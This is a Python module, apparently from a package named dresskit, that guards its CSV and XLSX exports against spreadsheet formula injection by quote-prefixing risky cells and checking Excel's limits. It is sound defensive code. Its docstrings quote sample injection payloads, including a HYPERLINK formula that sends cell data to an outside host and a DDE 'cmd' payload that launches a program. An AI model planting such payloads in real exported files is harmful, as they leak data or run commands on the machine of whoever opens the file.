"""Spreadsheet-safe CSV and XLSX: what dresskit writes never runs as a formula.

A spreadsheet program reads a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in
some programs, a tab or a carriage return) as a formula. A drug name such as
``=HYPERLINK("http://x/?"&A1, "open")`` in an exported table would then run when a
colleague opens the file: it can send data elsewhere or start a program (OWASP "CSV
Injection", CWE-1236). Every CSV and XLSX file dresskit writes (report tables, bundle, REDCap
and de-identified exports) goes through this module:

- CSV (:func:`csv_bytes`): a text cell that begins with one of those characters gets a
  leading single quote (``'=HYPERLINK(...)``), so every program shows it as text. A text
  cell that is a plain decimal number (``-0.5``, ``+3``) is left as it is: a number is not a
  formula, and numeric columns written as text (a bundle's) stay numbers. The quote is
  reversible: :func:`restore_csv_text` removes exactly the one added (a value that already
  began with quotes before such a character gets one more).
- XLSX (:func:`xlsx_bytes`): every text value is written as a string cell, never as a
  formula or an error value (openpyxl would otherwise store ``"=x"`` as a formula and
  ``"#N/A"`` as an error), and a text that begins with one of those characters also gets the
  cell style's *quotePrefix*, so Excel keeps it as text when the cell is edited. The value
  itself is unchanged: an exported workbook reads back exactly. Numbers, booleans and dates
  stay numbers, booleans and dates.

This module imports nothing from dresskit's layered packages: every layer may use it.

References
----------
.. [1] OWASP Foundation. CSV Injection.
   https://owasp.org/www-community/attacks/CSV_Injection
.. [2] MITRE. CWE-1236: Improper Neutralization of Formula Elements in a CSV File.
.. [3] ECMA-376 Office Open XML, Part 1, §18.8.45 ``xf`` (``quotePrefix``) and §18.3.1.4
   ``c`` (cell type ``s``/``str``); openpyxl documentation, "Simple usage" (a str that begins
   with ``=`` is stored as a formula).
"""

from __future__ import annotations

import contextlib
import io
import math
import os
import re
from collections.abc import Mapping
from typing import Any, Final

import polars as pl

from dresskit.errors import InputError

__all__ = [
    "FORMULA_PREFIXES",
    "csv_bytes",
    "neutralise_csv_text",
    "restore_csv_text",
    "starts_like_formula",
    "xlsx_bytes",
]

#: A text cell that begins with one of these is read as a formula (OWASP, CSV Injection).
FORMULA_PREFIXES: Final = ("=", "+", "-", "@", "\t", "\r")

#: A plain decimal number (ASCII digits only): never a formula, left as it is.
_NUMBER: Final = r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?"
_NUMBER_RE: Final = re.compile(_NUMBER)
#: Characters an XLSX cell cannot hold: XML 1.0 forbids most C0 controls (openpyxl refuses
#: them), and an XML reader turns a carriage return into a line feed (XML 1.0 §2.11).
_XLSX_ILLEGAL: Final = re.compile(r"[\x00-\x08\x0b-\x1f]")
#: Excel's rows per sheet (Excel specifications and limits), the header row included.
_XLSX_ROW_LIMIT: Final = 1_048_576
#: Excel's limit on the characters of one cell (Excel specifications and limits).
_XLSX_CELL_LIMIT: Final = 32_767
_SHEET_NAME: Final = re.compile(r"[^\[\]:*?/\\]{1,31}")


def starts_like_formula(text: str) -> bool:
    """Whether a spreadsheet would read ``text`` as a formula.

    ``text`` begins with one of :data:`FORMULA_PREFIXES` and is not a plain decimal number.

    Examples
    --------
    >>> starts_like_formula("=1+1"), starts_like_formula("-2.5"), starts_like_formula("-x")
    (True, False, True)
    """
    return text.startswith(FORMULA_PREFIXES) and _NUMBER_RE.fullmatch(text) is None


def _needs_quote(text: str) -> bool:
    return starts_like_formula(text.lstrip("'"))


def neutralise_csv_text(text: str) -> str:
    r"""Return ``text`` as a CSV cell that no spreadsheet runs as a formula.

    A text that :func:`starts_like_formula` (after any leading single quotes) gets one more
    leading single quote; anything else is returned unchanged.

    References
    ----------
    .. [1] OWASP Foundation. CSV Injection.

    Examples
    --------
    >>> neutralise_csv_text('=HYPERLINK("http://x")'), neutralise_csv_text("-3")
    ('\'=HYPERLINK("http://x")', '-3')
    """
    return "'" + text if _needs_quote(text) else text


def restore_csv_text(text: str) -> str:
    """Undo :func:`neutralise_csv_text`: remove the one quote it added, if it added one.

    Examples
    --------
    >>> restore_csv_text("'=1+1"), restore_csv_text("'quoted"), restore_csv_text("''-x")
    ('=1+1', "'quoted", "'-x")
    """
    return text[1:] if text.startswith("'") and _needs_quote(text[1:]) else text


#: A cell that may need a quote begins with one of these (a quote: it may hide a prefix).
_MAYBE_RISKY: Final = r"^['=+\-@\t\r]"


def _safe_text_column(frame: pl.DataFrame, name: str) -> pl.Series:
    """Return a text column with every cell that starts like a formula neutralised.

    One anchored pattern over the column finds the few cells that may need a quote; only
    those are looked at one by one (:func:`neutralise_csv_text`), so a column of millions of
    plain cells costs one cheap pass.
    """
    column = frame.get_column(name)
    if isinstance(column.dtype, pl.List | pl.Array):
        column = column.cast(pl.List(pl.Utf8)).list.join("; ")
    elif column.dtype != pl.Utf8:
        column = column.cast(pl.Utf8)
    maybe = column.str.contains(_MAYBE_RISKY).fill_null(False)
    if not maybe.any():
        return column
    rows = maybe.arg_true()
    fixed = [neutralise_csv_text(text) for text in column.gather(rows).to_list()]
    return column.scatter(rows, pl.Series(fixed, dtype=pl.Utf8))


def _is_text(dtype: pl.DataType) -> bool:
    return dtype == pl.Utf8 or isinstance(dtype, pl.Categorical | pl.Enum | pl.List | pl.Array)


def csv_bytes(frame: pl.DataFrame) -> bytes:
    r"""Return ``frame`` as UTF-8 CSV in which no text cell runs as a formula.

    Parameters
    ----------
    frame
        Any table. Text columns (string, categorical, enumeration; lists are joined with
        ``"; "``) are neutralised cell by cell with :func:`neutralise_csv_text`; numeric,
        boolean and date columns are written as they are (a negative number stays a
        number).

    Returns
    -------
    bytes
        The CSV (header row, ``,`` separator, ``"`` quoting where needed, ``\n`` line ends,
        an empty field for a missing value).

    References
    ----------
    .. [1] OWASP Foundation. CSV Injection.
    .. [2] RFC 4180, Common Format and MIME Type for CSV Files.

    Examples
    --------
    >>> import polars as pl
    >>> frame = pl.DataFrame({"drug": ["=cmd|' /C calc'!A0", "-x", "amoxicillin"],
    ...                       "dose": [-1.5, 2.0, None]})
    >>> print(csv_bytes(frame).decode())
    drug,dose
    '=cmd|' /C calc'!A0,-1.5
    '-x,2.0
    amoxicillin,
    <BLANKLINE>
    """
    text_columns = [name for name, dtype in frame.schema.items() if _is_text(dtype)]
    safe = frame.with_columns([_safe_text_column(frame, name) for name in text_columns])
    buffer = io.BytesIO()
    safe.write_csv(buffer)
    return buffer.getvalue()


def _cell_value(value: object) -> object:
    if isinstance(value, list | tuple):
        return "; ".join(str(item) for item in value)
    if isinstance(value, float) and not math.isfinite(value):
        # An XLSX number cannot be NaN or infinite (Excel reports the file as damaged):
        # write the value as text, never as an empty cell that would look like "no data".
        return str(value)
    return value


def xlsx_bytes(sheets: Mapping[str, pl.DataFrame]) -> bytes:
    r"""Return an .xlsx workbook with one sheet per frame, in which no cell is a formula.

    Parameters
    ----------
    sheets
        Sheet name -> table, in the order the sheets should appear. A name has 1 to 31
        characters, none of ``[ ] : * ? / \`` (Excel's rules).

    Returns
    -------
    bytes
        The workbook: a header row, then one row per table row. Text is written as string
        cells, never formulas or error values; text that :func:`starts_like_formula` also
        gets the *quotePrefix* style (Excel then keeps it as text when edited). Numbers,
        booleans, dates and times keep their types; a missing value is an empty cell; a
        list is written as its items joined with ``"; "``; NaN and infinity as text.

    Raises
    ------
    OSError
        When openpyxl cannot write its temporary files (a full disk); nothing is left open.
    InputError
        Before anything is written: when a sheet name breaks Excel's rules, a table has more
        rows than a sheet holds (1 048 575 below the header), or a text holds a character an
        XLSX cell cannot hold (a control character other than tab and newline; a carriage
        return would be read back as a newline) or more than 32 767 characters: the sheet,
        row and column are named.

    References
    ----------
    .. [1] OWASP Foundation. CSV Injection.
    .. [2] ECMA-376 Part 1, §18.8.45 (``quotePrefix``), §18.3.1.4 (cell types).
    .. [3] Microsoft. Excel specifications and limits (32 767 characters per cell,
       31 per sheet name).

    Examples
    --------
    >>> import io, polars as pl
    >>> from openpyxl import load_workbook
    >>> data = xlsx_bytes({"drugs": pl.DataFrame({"drug": ["=1+1"], "dose": [2.5]})})
    >>> sheet = load_workbook(io.BytesIO(data))["drugs"]
    >>> sheet["A2"].value, sheet["A2"].data_type, sheet["A2"].quotePrefix, sheet["B2"].value
    ('=1+1', 's', True, 2.5)
    """
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    # Everything is checked before the first cell is written: a write-only workbook left
    # half written cannot be closed cleanly.
    for name, frame in sheets.items():
        _check_sheet(name, frame)
    workbook = Workbook(write_only=True)
    try:
        for name, frame in sheets.items():
            worksheet = workbook.create_sheet(name)
            worksheet.append(list(frame.columns))
            for row in frame.iter_rows():
                worksheet.append([_xlsx_cell(worksheet, WriteOnlyCell, raw) for raw in row])
        buffer = io.BytesIO()
        workbook.save(buffer)
    except BaseException:
        _discard(workbook)
        raise
    return buffer.getvalue()


def _xlsx_cell(worksheet: Any, cell_type: Any, raw: object) -> Any:
    value = _cell_value(raw)
    # openpyxl writes a plain value as it is: a number as a number, a text as a string cell,
    # except a text starting with "=" (it makes a formula) or "#" (an error value such as
    # "#N/A"). Only those, and text that starts like a formula, need a cell of their own.
    if not isinstance(value, str) or not (
        value.startswith(("=", "#")) or starts_like_formula(value)
    ):
        return value
    cell = cell_type(worksheet)
    cell.value = value
    cell.data_type = "s"  # set after the value, which made openpyxl infer "f" or "e"
    if starts_like_formula(value):
        cell.quotePrefix = True
    return cell


def _discard(workbook: Any) -> None:
    """Close a write-only workbook that failed half way (a full disk under its temporary files).

    openpyxl streams each sheet through a generator into a temporary file; left open, each
    generator would report the same failure again, with a traceback, when collected. They
    are closed here, quietly, and their temporary files removed.
    """
    for sheet in workbook.worksheets:
        writer = getattr(sheet, "_writer", None)
        for stream in (getattr(sheet, "_rows", None), getattr(writer, "xf", None)):
            if stream is not None:
                with contextlib.suppress(Exception):
                    stream.close()
        temporary = getattr(writer, "out", None)
        if isinstance(temporary, str):
            with contextlib.suppress(OSError):
                os.remove(temporary)


def _text_expression(frame: pl.DataFrame, name: str) -> pl.Expr | None:
    """Return the column as the text written to its cells (``None``: a column of no text)."""
    dtype = frame.schema[name]
    if isinstance(dtype, pl.List | pl.Array):
        return pl.col(name).cast(pl.List(pl.Utf8)).list.join("; ")
    if dtype == pl.Utf8 or isinstance(dtype, pl.Categorical | pl.Enum):
        return pl.col(name).cast(pl.Utf8)
    return None


def _check_sheet(name: str, frame: pl.DataFrame) -> None:
    """Refuse what an .xlsx sheet cannot hold, naming the sheet, row and column."""
    if _SHEET_NAME.fullmatch(name) is None:
        raise InputError(
            "sheet", name, "a sheet name of 1 to 31 characters, none of [ ] : * ? / \\"
        )
    if frame.height > _XLSX_ROW_LIMIT - 1:
        raise InputError(
            "rows",
            frame.height,
            f"at most {_XLSX_ROW_LIMIT - 1} data rows in one .xlsx sheet (Excel's limit); "
            "write CSV instead",
            source=f"sheet {name}",
        )
    for column in [*frame.columns]:
        if _XLSX_ILLEGAL.search(column) or len(column) > _XLSX_CELL_LIMIT:
            raise InputError("header", column, "a column name an .xlsx cell can hold")
        text = _text_expression(frame, column)
        if text is None:
            continue
        bad = frame.select(
            (text.str.contains(_XLSX_ILLEGAL.pattern) | (text.str.len_chars() > _XLSX_CELL_LIMIT))
            .fill_null(False)
            .arg_true()
            .first()
        ).item()
        if bad is not None:
            value = frame.select(text).item(int(bad), 0)
            _refuse_xlsx_text(value, sheet=name, row=int(bad) + 1, column=column)


def _refuse_xlsx_text(value: str, *, sheet: str, row: int, column: str) -> None:
    bad = _XLSX_ILLEGAL.search(value)
    if bad is not None:
        raise InputError(
            column,
            value,
            "text without control characters (an .xlsx cell cannot hold "
            f"U+{ord(bad.group()):04X}; a carriage return would be read back as a line feed)",
            source=f"sheet {sheet}",
            row=row,
        )
    raise InputError(
        column,
        f"{value[:40]}... ({len(value)} characters)",
        f"text of at most {_XLSX_CELL_LIMIT} characters (an .xlsx cell holds no more)",
        source=f"sheet {sheet}",
        row=row,
    )
